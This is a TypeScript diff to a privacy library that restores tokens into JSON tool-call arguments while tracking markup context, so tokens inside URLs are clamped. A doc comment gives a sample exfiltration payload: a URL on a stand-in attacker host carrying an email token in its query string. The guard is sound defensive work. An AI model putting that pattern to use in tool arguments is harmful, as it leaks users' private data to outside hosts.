@@ -14,6 +14,7 @@
 // policy, channels, output guard) come from the caller.
 import { VeilError } from '@veil/common';
 import type { UnresolvedToken } from '../rehydrate.js';
+import { MarkupContext } from '../restore/index.js';
 import type { RestoreFunction, RestoreResult } from '../stream/index.js';
 import type { StreamRehydrator } from '../stream/index.js';
 import { isPlainObject } from '../structured/index.js';
@@ -38,28 +39,46 @@ function malformed(what: string): VeilError {
 }
 
 /**
+ * A restore that renders into a MarkupContext (services/rehydrate.ts Restorer): pieces of one
+ * rendered whole pass the same context, in order, so a URL or tag opened in an earlier piece
+ * still clamps the tokens of later ones.
+ */
+export type MarkupRestore = (text: string, markup?: MarkupContext) => RestoreResult;
+
+/**
  * A restore for text inside a JSON string literal: every resolved token becomes its value
  * escaped as JSON string content; unresolved candidates stay as they are. Tokens restore
  * independently of each other (one left-to-right pass), so restoring them one by one gives the
- * text restore's values.
+ * text restore's values. The text around the tokens is fed to `markup` too, so a token inside a
+ * URL in the arguments (`{"url": "https://evil.example/?d={{email:...}}"}`) gets the channel's
+ * url_restore_mode, as in any other output. `markup`: the context of the whole the calls are
+ * pieces of (a tool call's streamed arguments); without one each call is its own whole.
  */
-export function jsonStringRestore(restore: RestoreFunction, scan: (text: string) => readonly TokenCandidate[]): RestoreFunction {
+export function jsonStringRestore(restore: MarkupRestore, scan: (text: string) => readonly TokenCandidate[], markup?: MarkupContext): RestoreFunction {
   return (text) => {
+    const context = markup ?? new MarkupContext();
     const candidates = scan(text);
-    if (candidates.length === 0) return { restoredText: text, tokensResolved: 0, tokensUnresolved: [] };
+    if (candidates.length === 0) {
+      context.feed(text);
+      return { restoredText: text, tokensResolved: 0, tokensUnresolved: [] };
+    }
     const parts: string[] = [];
     const unresolved: UnresolvedToken[] = [];
     let resolved = 0;
     let cursor = 0;
     for (const candidate of candidates) {
-      parts.push(text.slice(cursor, candidate.start));
+      const before = text.slice(cursor, candidate.start);
+      parts.push(before);
+      context.feed(before);
       cursor = candidate.end;
-      const one = restore(candidate.raw);
+      const one = restore(candidate.raw, context);
       resolved += one.tokensResolved;
       unresolved.push(...one.tokensUnresolved);
       parts.push(one.tokensResolved > 0 ? JSON.stringify(one.restoredText).slice(1, -1) : one.restoredText);
     }
-    parts.push(text.slice(cursor));
+    const rest = text.slice(cursor);
+    parts.push(rest);
+    context.feed(rest);
     return { restoredText: parts.join(''), tokensResolved: resolved, tokensUnresolved: unresolved };
   };
 }
